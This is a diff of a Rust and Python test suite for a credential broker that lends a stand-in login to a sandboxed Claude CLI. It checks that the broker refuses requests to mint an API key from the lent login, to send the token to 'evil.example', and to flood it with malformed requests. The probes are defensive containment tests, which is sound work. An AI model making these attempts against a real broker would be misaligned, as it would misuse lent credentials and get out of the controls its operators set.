@@ -72,7 +72,14 @@ fn upstream_env(mock: &MockApi) -> Vec<(String, String)> {
 fn run(w: &World, p: &Path, mock: &MockApi, args: &[&str]) -> Output {
     let mut cmd = w.cmd(p);
     cmd.envs(upstream_env(mock)).args(args);
-    lab::output_within(&mut cmd, LIMIT).unwrap_or_else(|e| panic!("{e}"))
+    lab::output_within(&mut cmd, LIMIT).unwrap_or_else(|e| {
+        let seen: Vec<String> = mock
+            .log()
+            .iter()
+            .map(|r| format!("{} {} {} {}", r["method"], r["host"], r["path"], r["kind"]))
+            .collect();
+        panic!("{e}\nthe mock saw:\n{}", seen.join("\n"))
+    })
 }
 
 /// Every bearer the mock saw, as its redacted form (length and last 4 characters).
@@ -244,11 +251,11 @@ own = login["claudeAiOauth"]["accessToken"]
 print("STAND-IN", own)
 other = sys.argv[1] if len(sys.argv) > 1 else own
 ctx = ssl.create_default_context(cafile=os.environ["NODE_EXTRA_CA_CERTS"])
-def post(name, token, host=None):
+def post(name, token, host=None, path="/v1/messages/count_tokens"):
     try:
         c = http.client.HTTPSConnection("127.0.0.1", 3128, context=ctx, timeout=20)
         c.set_tunnel("api.anthropic.com", 443)
-        c.putrequest("POST", "/v1/messages/count_tokens", skip_host=host is not None)
+        c.putrequest("POST", path, skip_host=host is not None)
         if host is not None:
             c.putheader("Host", host)
         body = b"{}"
@@ -285,6 +292,7 @@ raw("garbage", b"\x00\x01 not http at all\r\n\r\n")
 raw("head-flood", b"GET / HTTP/1.1\r\n" + b"X-A: " + b"a" * 100000 + b"\r\n\r\n")
 post("own", own)
 post("other", other)
+post("mint", own, None, "/api/oauth/claude_cli/create_api_key")
 post("host-evil", own, "evil.example")
 connect("connect-mock", sys.argv[2] if len(sys.argv) > 2 else "127.0.0.1:9")
 connect("connect-evil", "evil.example:443")
@@ -370,6 +378,8 @@ fn the_stand_in_is_worthless_outside_its_sandbox_and_the_broker_goes_nowhere_els
     assert_eq!(result(&r, "host-evil"), "421", "{r:?}");
     assert_eq!(result(&r, "connect-mock"), "403", "{r:?}");
     assert_eq!(result(&r, "connect-evil"), "403", "{r:?}");
+    // A call that would mint a credential from the lent login: refused by the broker.
+    assert_eq!(result(&r, "mint"), "403", "{r:?}");
     // Huge and malformed requests: refused by the broker, which goes on serving.
     assert_eq!(result(&r, "huge"), "413", "{r:?}");
     assert_eq!(result(&r, "chunked"), "411", "{r:?}");
@@ -606,11 +616,21 @@ fn the_broker_alone_refreshes_the_login_under_claudes_lock() {
         let mut host = host_claude(&w, &p, &mock);
         host.env("CLAUDE_CONFIG_DIR", &x);
         let host = std::thread::spawn(move || lab::output_within(&mut host, LIMIT));
-        let _ = ask("none");
+        // The loser is logged out (the broker answers 401 and spends the dead token no
+        // more); how claude reports that is not the point here.
+        let mut sandbox = w.cmd(&p);
+        sandbox.envs(upstream_env(&mock)).args([
+            "--login-broker",
+            "--network",
+            "none",
+            "-p",
+            "hello",
+        ]);
+        let _ = lab::output_within(&mut sandbox, LIMIT);
         let _ = host.join().unwrap();
         let spent = mock.refreshes()[before..].to_vec();
         eprintln!("[{}] control, locks apart: {spent:?}", c.label);
-        assert_eq!(spent.len(), 2, "[{}] control: {spent:?}", c.label);
+        assert!(spent.len() >= 2, "[{}] control: {spent:?}", c.label);
         assert!(
             spent.iter().any(|r| r.1.is_none()),
             "[{}] control: {spent:?}",
@@ -683,6 +703,10 @@ pub(crate) fn attempts() -> Vec<(&'static str, bool)> {
     v.push((
         "login broker: an absolute-form target naming another host",
         !refused(&r, "absolute", "400"),
+    ));
+    v.push((
+        "login broker: mint an API key with the lent login",
+        !refused(&r, "mint", "403"),
     ));
     v.push((
         "login broker: bytes that are no HTTP",
